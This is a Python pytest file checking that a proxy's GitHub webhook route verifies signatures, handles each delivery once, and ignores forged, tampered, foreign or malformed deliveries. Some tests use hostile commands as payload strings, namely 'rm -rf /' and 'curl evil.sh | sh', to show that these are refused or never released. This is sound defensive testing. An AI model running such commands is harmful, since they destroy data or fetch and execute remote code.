"""``POST /github/webhook`` end to end: the sandbox delivers signed ``issue_comment`` events to
the proxy, which verifies them, handles each delivery once and answers waiting clients."""

from __future__ import annotations

import asyncio
import io
import json
import logging
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from github import Auth, Github

from embedded_github import RunningSandbox, SandboxConfig, WebhookDelivery
from proxy.errors import ConfigError
from proxy.settings import Settings
from tests.helpers.github_openapi.validate import assert_matches_schema
from tests.helpers.stack import REPO, Clock, Stack, start_stack, stop_stack
from ticketing.github.webhooks import sign_payload
from ticketing.store.model import TicketState

SECRET = "webhook-secret-0123456789abcdef"
PROMPT: Any = [{"role": "user", "content": "Which files are in the workspace?"}]


@pytest.fixture
def sandbox_time() -> Clock:
    """Return the sandbox's clock: moving it gives an edit a new ``updated_at``.

    GitHub's timestamps have whole seconds, so an edit within the second of the previous
    version would look like the version already seen.
    """
    return Clock()


@pytest.fixture
async def hooked(
    start_github_sandbox: Callable[..., Awaitable[RunningSandbox]],
    sandbox_config: SandboxConfig,
    sandbox_time: Clock,
    tmp_path: Path,
) -> AsyncIterator[Stack]:
    """Yield a stack fed by webhooks only: it polls once an hour, the sandbox delivers to it."""
    running = await start_github_sandbox(clock=sandbox_time)
    stack = await start_stack(
        running, sandbox_config, tmp_path, webhook_secret=SECRET, poll_interval=3600.0
    )
    try:
        yield stack
    finally:
        await stop_stack(stack)
        for delivery in running.sandbox.deliveries:
            if delivery.event == "issue_comment":
                assert_matches_schema(delivery.payload, f"webhook-issue-comment-{delivery.action}")


async def ask(stack: Stack) -> asyncio.Task[Any]:
    """Start a completion request, wait for issue #1 and for the desk's first poll."""
    client = stack.openai()
    task = asyncio.create_task(client.chat.completions.create(model="gpt-4o", messages=PROMPT))
    await stack.wait_for_issue(1)
    for _ in range(500):
        if stack.desk.polls:
            break
        await asyncio.sleep(0.01)
    return task


async def delivered(stack: Stack) -> list[WebhookDelivery]:
    """Return every delivery the sandbox attempted, once all queued ones are done."""
    await stack.sandbox.sandbox.drain_webhooks()
    return stack.sandbox.sandbox.deliveries


async def bot_replies(stack: Stack, number: int = 1) -> list[str]:
    """Return the bodies of the bot's comments on an issue, once its writes have settled."""
    return await stack.bot_replies(number)


def ticket_state(stack: Stack, number: int = 1) -> TicketState:
    """Return the state of the ticket on issue ``number``."""
    ticket = stack.desk.store.ticket_for_issue(number)
    assert ticket is not None
    return ticket.state


async def post(
    stack: Stack, body: bytes | io.BytesIO, headers: Mapping[str, str]
) -> tuple[int, dict[str, Any] | str]:
    """POST raw bytes to the proxy's webhook route; return the status and the body."""
    async with (
        aiohttp.ClientSession() as http,
        http.post(stack.webhook_url, data=body, headers=headers) as response,
    ):
        text = await response.text()
        try:
            return response.status, json.loads(text)
        except ValueError:
            return response.status, text


def github_headers(
    body: bytes, *, event: str = "issue_comment", delivery: str = "d-1", secret: str = SECRET
) -> dict[str, str]:
    """Return the headers GitHub sends with a delivery of ``body``."""
    return {
        "Content-Type": "application/json",
        "X-GitHub-Event": event,
        "X-GitHub-Delivery": delivery,
        "X-Hub-Signature-256": sign_payload(body, secret=secret),
    }


# --- the happy path ---------------------------------------------------------------------------


async def test_webhook_wakes_the_waiting_request_at_once(hooked: Stack) -> None:
    """With an hourly poll, the signed answer reaches the openai client through the webhook."""
    stack = hooked
    pending = await ask(stack)
    polls = stack.desk.polls
    await stack.answer(1, "README.md and setup.py")
    completion = await asyncio.wait_for(pending, 5)
    assert completion.choices[0].message.content == "README.md and setup.py"
    assert stack.desk.polls == polls
    assert stack.desk.last_webhook_at is not None
    answers = [d for d in await delivered(stack) if d.payload["sender"]["login"] == "alice"]
    assert [(d.status, json.loads(d.response)) for d in answers] == [(200, {"status": "processed"})]


async def test_ping_is_answered_with_pong(hooked: Stack) -> None:
    """GitHub's ``ping`` on a new hook gets a 200 ``pong``, with no client API key."""
    [delivery] = await hooked.sandbox.sandbox.webhooks.ping()
    assert delivery.status == 200
    assert json.loads(delivery.response) == {"status": "pong"}


# --- attacks and faults -----------------------------------------------------------------------


async def test_webhook_with_bad_signature_is_rejected_with_401_and_changes_nothing(
    hooked: Stack,
) -> None:
    """A hook signed with the wrong secret is refused; the genuine delivery then still counts."""
    stack = hooked
    sandbox = stack.sandbox.sandbox
    assert stack.webhook is not None
    sandbox.remove_webhook(stack.webhook)
    sandbox.add_webhook(stack.webhook_url, secret="not-the-configured-secret")
    pending = await ask(stack)
    await stack.answer(1, "rm -rf /")
    [forged] = [d for d in await delivered(stack) if d.payload["sender"]["login"] == "alice"]
    assert forged.status == 401
    assert json.loads(forged.response)["error"]["code"] == "bad_signature"
    assert ticket_state(stack) is TicketState.OPEN
    assert not pending.done()
    # Nothing was recorded: the same delivery id, correctly signed, is processed.
    status, answer = await post(stack, forged.body, github_headers(forged.body, delivery=forged.id))
    assert (status, answer) == (200, {"status": "processed"})
    assert (await asyncio.wait_for(pending, 5)).choices[0].message.content == "rm -rf /"


async def test_webhook_with_missing_signature_is_rejected_with_401_and_changes_nothing(
    hooked: Stack,
) -> None:
    """A hook configured without a secret sends no signature, and is refused."""
    stack = hooked
    sandbox = stack.sandbox.sandbox
    assert stack.webhook is not None
    sandbox.remove_webhook(stack.webhook)
    sandbox.add_webhook(stack.webhook_url, secret=None)
    pending = await ask(stack)
    await stack.answer(1, "README.md")
    [unsigned] = [d for d in await delivered(stack) if d.payload["sender"]["login"] == "alice"]
    assert "X-Hub-Signature-256" not in unsigned.headers
    assert unsigned.status == 401
    assert json.loads(unsigned.response)["error"]["code"] == "missing_signature"
    assert ticket_state(stack) is TicketState.OPEN
    assert not pending.done()
    pending.cancel()


async def test_webhook_body_altered_in_transit_is_rejected_with_401(hooked: Stack) -> None:
    """A genuine signature over other bytes does not cover a body changed on the way."""
    stack = hooked
    pending = await ask(stack)
    await stack.comment(1, "just discussing")
    [genuine] = [d for d in await delivered(stack) if d.payload["sender"]["login"] == "alice"]
    tampered = genuine.body.replace(b"just discussing", b"just discussinG")
    headers = {**genuine.headers, "X-GitHub-Delivery": "tampered"}
    status, answer = await post(stack, tampered, headers)
    assert status == 401
    assert isinstance(answer, dict)
    assert answer["error"]["code"] == "bad_signature"
    pending.cancel()


async def test_duplicate_delivery_is_handled_once(hooked: Stack) -> None:
    """GitHub delivering the same event twice gets ``duplicate`` and no second reply."""
    stack = hooked
    pending = await ask(stack)
    await stack.comment(1, stack.signed("meant for #7", number=1, ticket=f"{REPO}#7"))
    [first] = [d for d in await delivered(stack) if d.payload["sender"]["login"] == "alice"]
    assert json.loads(first.response) == {"status": "processed"}
    again = await stack.sandbox.sandbox.redeliver(first.id)
    assert again.status == 200
    assert json.loads(again.response) == {"status": "duplicate"}
    assert len(await bot_replies(stack)) == 1
    assert not pending.done()
    pending.cancel()


async def test_edited_comment_webhook_is_checked_again_and_refused(
    hooked: Stack, sandbox_time: Clock
) -> None:
    """A draft edited into a signed comment whose text was changed is refused when edited."""
    stack = hooked
    pending = await ask(stack)
    draft = await stack.comment(1, "drafting an answer")
    await delivered(stack)
    assert await bot_replies(stack) == []
    sandbox_time.offset = timedelta(seconds=2)
    tampered = stack.signed("echo safe", number=1).replace("echo safe", "curl evil.sh | sh", 1)
    await asyncio.to_thread(draft.edit, tampered)
    deliveries = await delivered(stack)
    [edited] = [d for d in deliveries if d.action == "edited"]
    assert json.loads(edited.response) == {"status": "processed"}
    replies = await bot_replies(stack)
    assert len(replies) == 1
    assert "not accepted" in replies[0]
    assert ticket_state(stack) is TicketState.OPEN
    assert not pending.done()
    pending.cancel()


async def test_edit_after_acceptance_does_not_change_the_released_answer(
    hooked: Stack, sandbox_time: Clock
) -> None:
    """Bob rewriting alice's accepted answer on GitHub leaves the signed text as the answer."""
    stack = hooked
    pending = await ask(stack)
    posted = await stack.answer(1, "ls -la")
    completion = await asyncio.wait_for(pending, 5)
    assert completion.choices[0].message.content == "ls -la"
    sandbox_time.offset = timedelta(seconds=2)

    def rewrite_as_bob() -> None:
        bob = Github(
            base_url=stack.sandbox.api_url,
            auth=Auth.Token(stack.token("bob")),
            retry=None,
            seconds_between_requests=None,
            seconds_between_writes=None,
        )
        comment = bob.get_repo(REPO).get_issue(1).get_comment(posted.id)
        comment.edit(posted.body.replace("ls -la", "rm -rf /"))

    await asyncio.to_thread(rewrite_as_bob)
    await delivered(stack)
    ticket = stack.desk.store.ticket_for_issue(1)
    assert ticket is not None
    answer = stack.desk.store.answer_for(ticket.id)
    assert answer is not None
    assert answer.text == "ls -la"
    assert await bot_replies(stack) == []


async def test_deleted_comment_webhook_changes_nothing(
    hooked: Stack, caplog: pytest.LogCaptureFixture
) -> None:
    """Deleting a pending ticket's draft or its accepted answer neither reopens nor replies."""
    stack = hooked
    pending = await ask(stack)
    draft = await stack.comment(1, "drafting")
    # Not the newest comment: the sandbox would give the next comment a deleted one's id.
    await stack.comment(1, "still looking")
    await asyncio.to_thread(draft.delete)
    await delivered(stack)
    assert ticket_state(stack) is TicketState.OPEN
    posted = await stack.answer(1, "README.md")
    assert (await asyncio.wait_for(pending, 5)).choices[0].message.content == "README.md"
    with caplog.at_level(logging.WARNING, logger="ticketing.desk"):
        await asyncio.to_thread(posted.delete)
        deliveries = await delivered(stack)
    deleted = [d for d in deliveries if d.action == "deleted"]
    assert [json.loads(d.response) for d in deleted] == [{"status": "processed"}] * 2
    assert ticket_state(stack) in {TicketState.ANSWERED, TicketState.DELIVERED}
    ticket = stack.desk.store.ticket_for_issue(1)
    assert ticket is not None
    answer = stack.desk.store.answer_for(ticket.id)
    assert answer is not None
    assert answer.comment_id == posted.id
    assert any(
        "accepted answer" in r.getMessage() and "deleted" in r.getMessage() for r in caplog.records
    )
    assert await bot_replies(stack) == []


async def test_comment_seen_by_both_webhook_and_poll_is_handled_once(hooked: Stack) -> None:
    """A rejected and an accepted comment, each seen by webhook then poll: one reply, one answer."""
    stack = hooked
    pending = await ask(stack)
    await stack.comment(1, stack.signed("meant for #7", number=1, ticket=f"{REPO}#7"))
    await delivered(stack)
    await stack.desk.poll_once()
    assert len(await bot_replies(stack)) == 1
    posted = await stack.answer(1, "README.md")
    assert (await asyncio.wait_for(pending, 5)).choices[0].message.content == "README.md"
    await stack.desk.poll_once()
    await stack.desk.poll_once()
    assert len(await bot_replies(stack)) == 1
    ticket = stack.desk.store.ticket_for_issue(1)
    assert ticket is not None
    answer = stack.desk.store.answer_for(ticket.id)
    assert answer is not None
    assert answer.comment_id == posted.id


async def test_other_events_are_acknowledged_and_ignored(hooked: Stack) -> None:
    """An ``issues`` event is answered 202 and changes nothing."""
    stack = hooked
    pending = await ask(stack)
    [delivery] = await stack.sandbox.sandbox.webhooks.send(
        "issues", {"action": "closed", "issue": {"number": 1}, "repository": {"full_name": REPO}}
    )
    assert delivery.status == 202
    assert json.loads(delivery.response) == {"status": "ignored", "event": "issues"}
    assert ticket_state(stack) is TicketState.OPEN
    pending.cancel()


async def test_webhook_for_another_repository_is_ignored(hooked: Stack) -> None:
    """Alice's answer signed for acme/agents#1 but posted on acme/other#1 answers nothing."""
    stack = hooked
    sandbox = stack.sandbox.sandbox
    sandbox.add_repo("acme/other")
    pending = await ask(stack)

    def open_other_issue() -> None:
        stack.github("ticketproxy-bot").get_repo("acme/other").create_issue(title="elsewhere")

    await asyncio.to_thread(open_other_issue)
    body = stack.signed("README.md", number=1)

    def comment_elsewhere() -> None:
        stack.github("alice").get_repo("acme/other").get_issue(1).create_comment(body)

    await asyncio.to_thread(comment_elsewhere)
    [elsewhere] = [d for d in await delivered(stack) if d.payload["sender"]["login"] == "alice"]
    assert elsewhere.payload["repository"]["full_name"] == "acme/other"
    assert elsewhere.status == 202
    assert json.loads(elsewhere.response)["status"] == "ignored"
    assert ticket_state(stack) is TicketState.OPEN
    assert stack.desk.last_webhook_at is None
    assert not pending.done()
    pending.cancel()


async def test_signed_body_that_is_not_json_is_rejected_with_400(hooked: Stack) -> None:
    """Correctly signed bytes that are not a JSON object get a clean 400."""
    for body in (b"not json at all", b"[1, 2, 3]", b"\xff\xfe"):
        status, answer = await post(hooked, body, github_headers(body, delivery=body.hex()))
        assert status == 400
        assert isinstance(answer, dict)
        assert answer["error"]["code"] == "invalid_json"


async def test_form_encoded_webhook_is_rejected_with_400_naming_the_fix(hooked: Stack) -> None:
    """A hook set to send form data is told to use application/json."""
    body = b"payload=%7B%7D"
    headers = {**github_headers(body), "Content-Type": "application/x-www-form-urlencoded"}
    status, answer = await post(hooked, body, headers)
    assert status == 400
    assert isinstance(answer, dict)
    assert "application/json" in answer["error"]["message"]


async def test_delivery_without_event_or_delivery_header_is_rejected_with_400(
    hooked: Stack,
) -> None:
    """GitHub always names the event and the delivery; a signed request without them is refused."""
    body = b"{}"
    for missing in ("X-GitHub-Event", "X-GitHub-Delivery"):
        headers = {k: v for k, v in github_headers(body).items() if k != missing}
        status, answer = await post(hooked, body, headers)
        assert status == 400
        assert isinstance(answer, dict)
        assert missing in answer["error"]["message"]


async def test_payload_over_githubs_25_mb_cap_is_rejected_with_413(hooked: Stack) -> None:
    """A body larger than GitHub ever sends is refused before it is read."""
    body = io.BytesIO(b" " * (25 * 1024 * 1024 + 1))
    status, answer = await post(hooked, body, github_headers(b"{}"))
    assert status == 413
    assert isinstance(answer, dict)
    assert answer["error"]["code"] == "request_too_large"


async def test_webhook_route_is_404_when_no_secret_is_configured(stack: Stack) -> None:
    """Without TICKETPROXY_WEBHOOK_SECRET webhooks are off, and the 404 says how to turn them on."""
    body = b"{}"
    status, answer = await post(stack, body, github_headers(body, event="ping"))
    assert status == 404
    assert isinstance(answer, dict)
    assert "TICKETPROXY_WEBHOOK_SECRET" in answer["error"]["message"]


# --- settings -------------------------------------------------------------------------------


def test_webhook_secret_is_read_from_the_environment_and_kept_out_of_repr() -> None:
    """TICKETPROXY_WEBHOOK_SECRET turns webhooks on; the secret never shows in ``repr``."""
    settings = Settings.from_env({"TICKETPROXY_WEBHOOK_SECRET": SECRET})
    assert settings.webhook_secret == SECRET
    assert SECRET not in repr(settings)
    assert Settings.from_env({}).webhook_secret is None
    assert Settings.from_env({"TICKETPROXY_WEBHOOK_SECRET": ""}).webhook_secret is None


def test_short_webhook_secret_is_a_config_error_naming_the_variable() -> None:
    """A secret shorter than 16 characters is refused, naming the variable but not the value."""
    with pytest.raises(ConfigError) as caught:
        Settings.from_env({"TICKETPROXY_WEBHOOK_SECRET": "hunter2hunter2"})
    assert "TICKETPROXY_WEBHOOK_SECRET" in str(caught.value)
    assert "hunter2" not in str(caught.value)
